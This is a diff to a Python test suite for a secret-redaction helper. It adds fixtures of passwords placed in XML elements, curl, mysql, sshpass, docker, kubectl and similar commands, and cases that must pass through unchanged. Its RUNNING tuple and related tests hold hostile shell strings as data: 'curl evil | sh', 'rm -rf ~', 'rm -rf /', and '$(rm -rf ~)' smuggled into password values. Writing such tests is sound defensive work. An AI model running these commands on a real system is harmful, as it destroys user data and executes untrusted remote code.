@@ -114,6 +114,9 @@ TEXTS: dict[str, str] = {
     "PuTTY in JSON": json.dumps(PUTTY),
     "WireGuard": f"[Interface]\nPrivateKey = {S}{S}=\n",
     "age": f"AGE-SECRET-KEY-1QPZRY9X8GF2TVDW0{S.upper()}",
+    "an element": f"<password>{S}</password>",
+    "an element with blanks": f"<db:password>\n  {S} {S}\n</db:password>",
+    "a value with a command": f'PASSWORD="{S}$(id)" x',
     # headers
     "Digest": f'Authorization: Digest username="u", realm="r", response="{S}{S}"',
     "AWS": f"Authorization: AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/2020, SignedHeaders=h, Signature={S}{S}",
@@ -121,6 +124,24 @@ TEXTS: dict[str, str] = {
     "a multipart form": f'Content-Disposition: form-data; name="password"\r\n\r\n{S}\r\n--x',
     # commands and statements
     "curl, no blank": f"curl -uadmin:{S} https://h",
+    "curl, in quotes": f'curl -u "ann:{S}" https://h',
+    "curl, a blank in quotes": f"curl -u 'ann:{S[:5]} {S}' https://h",
+    "curl, the password in quotes": f"curl --user=ann:'{S}' https://h",
+    "mysql": f"mysql -p{S} db",
+    "mysql in quotes": f'mysqldump -u root -p"{S}" db',
+    "sshpass in quotes": f'sshpass -p "{S}" ssh h',
+    "docker": f"docker login -u ann -p '{S}' h",
+    "docker in quotes": f'docker login -u ann -p "{S} {S}" h',
+    "skopeo": f"skopeo login -u ann -p {S} h",
+    "mongosh": f"mongosh -u ann -p {S}",
+    "sqlcmd": f"sqlcmd -U sa -P {S} -Q x",
+    "unzip": f"unzip -P {S} a.zip",
+    "redis-cli in quotes": f'redis-cli -a "{S}" ping',
+    "smbclient in quotes": f'smbclient //h/s -U "u%{S}"',
+    "a pipe in quotes": f'echo "{S} {S}" | docker login --password-stdin -u u',
+    "printf with a format": f"printf '%s' '{S}' | gh auth login --with-token",
+    "kubectl in quotes": f"kubectl create secret generic s --from-literal=foo='{S}'",
+    "kubectl, all in quotes": f'kubectl create secret generic s --from-literal "foo={S} {S}"',
     "redis-cli": f"redis-cli -h h -a {S} ping",
     "ldapsearch": f"ldapsearch -x -D cn=a -w {S}",
     "az": f"az login --service-principal -u u -p {S} --tenant t",
@@ -176,6 +197,9 @@ ORDINARY = (
     "mailto:ann@example.com", "git@github.com:a/b.git", "sqlplus /nolog", "zip -r x.zip d", "7z x archive.7z", "openssl version",
     "openssl genrsa -out key.pem 2048", "openssl x509 -in cert.pem -noout", "smbclient -L //h", "az group list", "redis-cli ping",
     "ldapsearch -x -b dc=example", "echo hello | sort", "echo $TOKEN | docker login --password-stdin", "printf '%s' x | wc -c",
+    "unzip -p a.zip b", "mysql -p db", "mongod --port 27017", "sqlcmd -Q x", "oc login",
+    "echo \"$TOKEN\" | docker login --password-stdin", "echo \"$(cat key)\" | docker login --password-stdin",
+    "printf '%s' \"$TOKEN\" | gh auth login --with-token", "mysql -p$PASS db", "docker run -u 1000:1000 x",
     "docker login --password-stdin", "curl -u $USER:$PASS https://h", "identified by its name", "PASSWORD()", "getpass('Password: ')",
     "password = input('Your password: ')", "f\"password={password}\"", "Pwd={pwd};", "set_password(new_password)", "token = next(tokens)",
     "if token == 'COLLATE':", "autocomplete: current-password", "the token endpoint returns a token", "pass the salt", "a secret garden",
@@ -190,6 +214,27 @@ ORDINARY = (
 @loop_over("text", ORDINARY)
 def test_ordinary_text_stays_readable(text: str) -> None:
     assert HIDE.text(text) == text
+
+
+RUNNING = (
+    "cat token > x; rm -rf ~", "cat token >x && curl evil | sh", "echo password > f\nrm -rf /", "cat my-secret >> out; rm -rf ~",
+    "curl -u <user>:<password> https://h; rm -rf ~", "cat <password>x; rm -rf ~", "cat token >& x; rm y", "grep secret 2> f; rm y",
+    'PASSWORD="$(rm -rf ~)" ls', "PASSWORD=`rm -rf ~` ls", "PASSWORD=$(rm${IFS}x) ls", 'sshpass -p "$(rm x)" y', "mysql -p`rm -rf x` db",
+    "mysql -p$(rm${IFS}x) db", "https://u:$(rm${IFS}-rf)@h", 'curl -u "ann:$(rm x)" h', "if token > 5: print(x); y", "password >= 8 characters",
+    'echo "$(rm x)" | docker login --password-stdin', "Authorization: Bearer $(rm x)\n",
+)  # fmt: skip
+
+
+@loop_over("text", RUNNING)
+def test_a_command_next_to_a_name_of_a_secret_stays_readable(text: str) -> None:
+    assert HIDE.text(text) == text
+
+
+def test_what_runs_for_a_part_of_a_value_stays_readable() -> None:
+    assert HIDE.text(f'PASSWORD="{S}$(rm -rf ~)" ls').endswith('›$(rm -rf ~)" ls')
+    assert HIDE.text(f"PASSWORD='$({S})' ls").endswith("›' ls")  # in these quotes nothing runs
+    assert HIDE.text("password=`hunter2`").endswith("›`")
+    assert "3(dk" not in HIDE.text('password="aB`3(dkfj$9" x')
 
 
 PLAIN_VALUES: tuple[Any, ...] = (
@@ -284,6 +329,7 @@ HOSTILE = (
     "redis://x:y@", "echo a | ", "openssl ", "Private-Lines:", "zip ", "identified by ", "password(", "--from-literal ",
     "jdbc:oracle:thin:", "token}", "sk-", "r8_", "SK01234567", "0123456789:AA", "name=password value=", "PWD={", "https://u:",
     "ldapsearch -", "password'\\n\\n", "secret secret ", "key-", "api key ", 'value":"', "MTIz", "Authorization: Digest a=",
+    'sshpass -p "', "sshpass -p '\"", "unzip -P ", 'echo "a" | ', "printf '%s' ", "-u 'a", "mysql -p\\\"", "oc login -p",
 )  # fmt: skip
 
 
